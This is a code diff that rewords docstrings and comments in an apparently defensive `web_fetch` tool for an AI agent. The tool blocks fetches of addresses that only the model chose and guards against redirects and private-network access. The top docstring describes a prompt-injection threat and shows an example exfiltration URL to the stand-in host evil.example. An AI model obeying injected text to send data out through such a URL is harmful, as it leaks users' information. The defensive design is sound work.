@@ -1,16 +1,16 @@
 """The tool `web_fetch`: the text of one web page, from an address that the model cannot make up.
 
 `registry.py` builds it. Text that a model has read may tell it to send what it knows to somebody, and an address is
-enough to send it: `https://evil.example/?what-I-know`. So an address is fetched only if the person wrote exactly that
-one, or if the settings name its host. Next: `urls.py`, what one address is; `transport/signed_post.py`, which addresses
-of the network may be connected to.
+enough to send it: `https://evil.example/?what-I-know`. So an address is fetched only if the person wrote exactly this
+address, or if the settings name its host. Next: `urls.py`, when addresses are equal; `transport/signed_post.py`, which
+network addresses may be connected to.
 
-- An address is resolved once, checked, and connected to by number; private addresses only for hosts that the settings
-  name as such. This holds for every redirect.
-- What a person wrote may redirect to anywhere: the model has had no say in it. From a host of the settings only to what
-  might have been fetched itself, or an open redirect there would let everything out.
-- No redirect leads from a public host into the private network, wherever that is allowed.
-- No cookies, no passwords, no referrer, no proxy, nothing but GET; a port below 1024 that is not 80 or 443 only if the
+- A host is resolved once, checked, and connected to by number; private addresses are allowed only for hosts that the
+  settings name as private. This holds for every redirect.
+- A URL that the person wrote may redirect to anywhere: the model had no influence on it. A host of the settings may
+  redirect only to what could be fetched directly, or an open redirect there could leak everything.
+- No redirect leads from a public host into the private network, even to an allowed host.
+- No cookies, no passwords, no referrer, no proxy, nothing but GET; a port below 1024 other than 80 and 443 only if the
   settings name it with its host.
 """
 
@@ -34,10 +34,10 @@ from switchboard.transport.signed_post import CheckedTransport, PostError, Resol
 
 MOST_REDIRECTS: Final = 5
 MOST_BODY: Final = 2 * 1024**2
-"""Bytes of a page that are read."""
+"""Maximum bytes of a page that are read."""
 _OPEN_PORTS: Final = frozenset({80, 443})
 _PASSING: Final = frozenset({408, 425, 429, 500, 502, 503, 504})
-"""What a server answers that may do better a little later."""
+"""Statuses of a server that may succeed a little later."""
 _REDIRECTS: Final = frozenset({301, 302, 303, 307, 308})
 _HEADERS: Final = {
     "Accept": "text/html, text/*;q=0.9, application/json;q=0.9",
@@ -63,7 +63,7 @@ WEB_FETCH: Final = ToolSpec(
 
 
 class WebOptions(Struct, frozen=True):
-    """How it fetches; `seconds` for all of it."""
+    """How pages are fetched; `seconds` is the limit for a whole fetch."""
 
     seconds: float = 30.0
     resolver: Resolve = resolve
@@ -79,14 +79,14 @@ class WebFetch:
 
     def __init__(self, options: WebOptions = _DEFAULTS) -> None:
         self._seconds = options.seconds
-        # As in `signed_post.py`: its certificates cost 25 ms. It keeps no connection: none needs closing.
+        # As in `signed_post.py`: loading certificates costs 25 ms. No connection is kept, so nothing needs closing.
         self._network = per_loop(partial(CheckedTransport, options.resolver))
 
     async def call(self, arguments: JsonMapping, scope: ToolScope) -> ToolOutcome:
-        """The page as JSON; or why there is none, in a sentence. Raises `ConfigurationError` for what is no host."""
+        """The page as JSON; or why there is none, in a sentence. Raises `ConfigurationError` for invalid hosts."""
         scope = _read(scope)
         if scope.approved and (url := canonical(str(arguments["url"]))) is not None:
-            # As if the settings named its host: a redirect to elsewhere was not approved.
+            # As if the settings named its host: redirects to other hosts were not approved.
             scope = replace(scope, hosts=scope.hosts | {place_of(url)})
         try:
             async with asyncio.timeout(self._seconds):
@@ -100,14 +100,14 @@ class WebFetch:
         return ToolOutcome(told, ok=False, why=f"status {page.status}", passing=page.status in _PASSING)
 
     def asks_first(self, arguments: JsonMapping, scope: ToolScope) -> str | None:
-        """For an address that neither the person nor the settings have chosen. Raises `ConfigurationError`."""
+        """Why an address that only the model chose needs an approval; None if none. Raises `ConfigurationError`."""
         url, scope = canonical(str(arguments["url"])), _read(scope)
         if url is None or _permitted(url, scope) or not _open(url, scope):
             return None
         return "the person has not written this address, and the settings do not name its host"
 
     def _why(self, error: Exception) -> str:
-        """Without addresses of the network, which are nobody's business."""
+        """The reason in words, without network addresses, which must not be disclosed."""
         if isinstance(error, ToolRefusal):
             return str(error)
         if isinstance(error, PostError) and error.kind == "forbidden":
@@ -133,7 +133,7 @@ class WebFetch:
         raise ToolRefusal(f"it redirects more than {MOST_REDIRECTS} times")
 
     async def _asked(self, url: str, came_from: str, scope: ToolScope) -> Page | str:
-        """What one server answers: a page, or where to continue."""
+        """The answer of one server: a page, or the URL to continue with."""
         place, private = place_of(url), scope.private_hosts
         if not _open(url, scope):
             raise ToolRefusal(f"port {port_of(url)} is not one of web pages")
@@ -154,12 +154,12 @@ def _is_passing(error: Exception) -> bool:
 
 
 def _read(scope: ToolScope) -> ToolScope:
-    """With the hosts of the settings in one form."""
+    """The scope with canonical hosts."""
     return replace(scope, hosts=hosts_of(scope.hosts), private_hosts=hosts_of(scope.private_hosts))
 
 
 def _open(url: str, scope: ToolScope) -> bool:
-    """Whether its port may be one of web pages."""
+    """Whether pages may be fetched from its port."""
     port = port_of(url)
     return port in _OPEN_PORTS or port >= 1024 or place_of(url) in scope.hosts | scope.private_hosts
 
@@ -174,7 +174,7 @@ def _only(scope: ToolScope) -> str:
 
 
 def _target(url: str, response: httpx2.Response) -> str | None:
-    """Where it redirects to; None: it does not. Raises `ToolRefusal`."""
+    """The URL that it redirects to; None if it does not. Raises `ToolRefusal`."""
     location = response.headers.get("location")
     if response.status_code not in _REDIRECTS or location is None:
         return None
